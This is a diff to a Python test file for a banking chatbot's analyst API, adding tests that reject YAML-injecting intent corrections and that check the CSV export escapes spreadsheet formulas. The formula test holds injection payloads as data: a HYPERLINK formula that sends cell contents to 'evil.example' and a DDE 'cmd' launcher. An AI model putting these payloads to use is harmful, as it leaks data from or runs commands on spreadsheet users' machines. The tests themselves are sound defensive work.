@@ -134,9 +134,10 @@ def test_a_transcript_is_masked_with_intents_events_tags_and_annotations(client,
 
     # Annotate the misunderstood message; it shows on the transcript and in the NLU export.
     note = client.post(f"/api/analyst/conversations/{conversation}/annotations",
-                       json={"message_id": first["id"], "correct_intent": "faq_app_login_failed", "note": "登录失败"},
+                       json={"message_id": first["id"], "correct_intent": "app_login", "note": "登录失败"},
                        headers=analyst)  # fmt: skip
-    assert note.status_code == 201 and note.json()["correct_intent"] == "faq_app_login_failed"
+    # An FAQ topic's id is read as its retrieval intent
+    assert note.status_code == 201 and note.json()["correct_intent"] == "faq/app_login"
     again = client.get(f"/api/analyst/conversations/{conversation}", headers=analyst).json()
     assert again["messages"][0]["annotations"][0]["note"] == "登录失败"
     bad = client.post(f"/api/analyst/conversations/{conversation}/annotations",
@@ -148,13 +149,40 @@ def test_a_transcript_is_masked_with_intents_events_tags_and_annotations(client,
     assert nlu.status_code == 200 and PHONE not in nlu.text
     data = yaml.safe_load(nlu.text)
     examples = {item["intent"]: item["examples"] for item in data["nlu"]}
-    assert "- 我的手机138****5678登录不了手机银行" in examples["faq_app_login_failed"]
+    assert "- 我的手机138****5678登录不了手机银行" in examples["faq/app_login"]
 
     story = client.get(f"/api/analyst/conversations/{conversation}/story", headers=analyst)
     assert story.status_code == 200 and "attachment" in story.headers["content-disposition"]
     steps = yaml.safe_load(story.text)["stories"][0]["steps"]
-    assert steps[0] == {"user": "我的手机138****5678登录不了手机银行\n", "intent": "faq_app_login_failed"}
+    assert steps[0] == {"user": "我的手机138****5678登录不了手机银行\n", "intent": "faq/app_login"}
     assert {"action": "utter_default"} in steps and steps[-1]["intent"] == "request_human"
+
+
+def test_a_correction_must_name_a_known_intent_or_faq_topic(client, analyst, seeded, staff_factory):
+    conversation = seeded["login"]
+    first = client.get(f"/api/analyst/conversations/{conversation}", headers=analyst).json()["messages"][0]
+    url = f"/api/analyst/conversations/{conversation}/annotations"
+    for bad in ("faq_app_login_failed", "faq/no_such_topic", "faq", "nlu_fallback", "chitchat/nonsense",
+                "greet\n- intent: evil\n  examples: |\n    - x", "request_human: x"):  # fmt: skip
+        refused = client.post(url, json={"message_id": first["id"], "correct_intent": bad}, headers=analyst)
+        assert refused.status_code == 422, bad
+        assert "已知意图或常见问题主题" in refused.json()["error"]["message"]
+    for good, stored in (("request_human", "request_human"), ("faq/card_lost", "faq/card_lost"), (" card_lost ", "faq/card_lost")):
+        saved = client.post(url, json={"message_id": first["id"], "correct_intent": good}, headers=analyst)
+        assert saved.status_code == 201 and saved.json()["correct_intent"] == stored
+    # A row stored before corrections were checked never reaches the exports raw
+    from bot.transcripts.models import TranscriptAnnotation
+    from bot.db import utcnow
+
+    with staff_factory.session() as session:
+        session.add(TranscriptAnnotation(message_id=first["id"], conversation_id=conversation, author="legacy",
+                                         correct_intent="x\n- intent: injected", created_at=utcnow()))  # fmt: skip
+    nlu = client.get("/api/analyst/export/nlu-corrections", headers=analyst).text
+    assert "injected" not in nlu
+    intents = {item["intent"] for item in yaml.safe_load(nlu)["nlu"]}
+    assert {"request_human", "faq/card_lost"} <= intents
+    story = client.get(f"/api/analyst/conversations/{conversation}/story", headers=analyst).text
+    assert "injected" not in story and yaml.safe_load(story)["stories"][0]["steps"]
 
 
 def test_exports_stream_masked_csv_and_jsonl_that_parse_back(client, analyst, seeded):
@@ -173,6 +201,31 @@ def test_exports_stream_masked_csv_and_jsonl_that_parse_back(client, analyst, se
     [record] = [line for line in lines if line["conversation"]["conversation_id"] == seeded["login"]]
     assert [m["sender"] for m in record["messages"]] == ["customer", "assistant", "customer", "agent"]
     assert record["messages"][3]["text"] == "您好，我是人工客服，请不要发送卡号****0123"
+
+
+def test_the_csv_export_never_hands_a_formula_to_a_spreadsheet(client, analyst, staff_factory):
+    conversation = f"formula-{uuid.uuid4().hex[:6]}"
+    now = time.time()
+    attacks = ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3",
+               "@SUM(1,1)", "\t=1+1", "\r=1+1", "＝HYPERLINK(\"http://evil.example\")", "您好=正常文字"]  # fmt: skip
+    events = [(conversation, user(text, "nlu_fallback", 0.3, now - 100 + i)) for i, text in enumerate(attacks)]
+    events.append((conversation, bot("=1+1", now - 50, agent="=cmd")))
+    base = int(now * 1000) % 10**9 + 500_000
+    with staff_factory.session() as session:
+        transcripts.ingest_rasa_events(
+            session, [(base + i, sender, json.dumps(event, ensure_ascii=False)) for i, (sender, event) in enumerate(events)]
+        )
+    response = client.get("/api/analyst/export/conversations.csv", headers=analyst)
+    rows = [row for row in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
+            if row["conversation_id"] == conversation]  # fmt: skip
+    assert len(rows) == len(events)
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), (column, cell)
+    texts = [row["text"] for row in rows]
+    assert texts[0] == "'" + attacks[0] and texts[2] == "'-2+3"  # shown as typed, after the quote
+    assert "您好=正常文字" in texts, "ordinary text is left alone"
+    assert rows[-1]["agent_name"] == "'=cmd"
 
 
 def test_the_dashboard_counts_and_links_each_figure_to_its_conversations(client, analyst, seeded):
